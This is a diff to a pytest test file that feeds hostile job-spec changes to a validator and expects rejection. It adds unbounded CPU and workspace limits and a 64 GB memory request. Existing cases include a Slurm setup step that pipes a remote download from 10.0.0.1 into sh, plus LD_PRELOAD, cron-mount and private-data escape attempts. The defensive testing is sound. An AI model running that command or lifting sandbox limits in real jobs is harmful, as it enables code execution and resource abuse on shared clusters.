@@ -18,9 +18,13 @@ ATTACKS = [
     ({"executor": {"slurm": {"setup": ["curl http://10.0.0.1/x | sh"]}}}, "spec.executor.slurm.setup"),
     ({"executor": {"nodes": 16}}, "spec.executor.nodes"),
     ({"tasks": {"source": "/srv/team-b/private.jsonl"}}, "spec.tasks.source"),
+    ({"sandbox": {"limits": {"cpus": None}}}, "spec.sandbox.limits.cpus"),  # a bound turned off
+    ({"sandbox": {"limits": {"workspaceMB": None}}}, "spec.sandbox.limits.workspaceMB"),
+    ({"sandbox": {"limits": {"memoryMB": 65536}}}, "spec.sandbox.limits.memoryMB"),
 ]
 IDS = ["process", "image-root", "mount-var-tmp", "mount-cron", "mount-usr-local-bin", "mount-root-cache",
-       "user-munge", "env-ld-preload", "env-rolloutd", "slurm-setup", "nodes-16", "dataset-outside-roots"]
+       "user-munge", "env-ld-preload", "env-rolloutd", "slurm-setup", "nodes-16", "dataset-outside-roots",
+       "cpus-unbounded", "workspace-unbounded", "memory-64g"]
 
 
 @pytest.mark.parametrize("change,field", ATTACKS, ids=IDS)
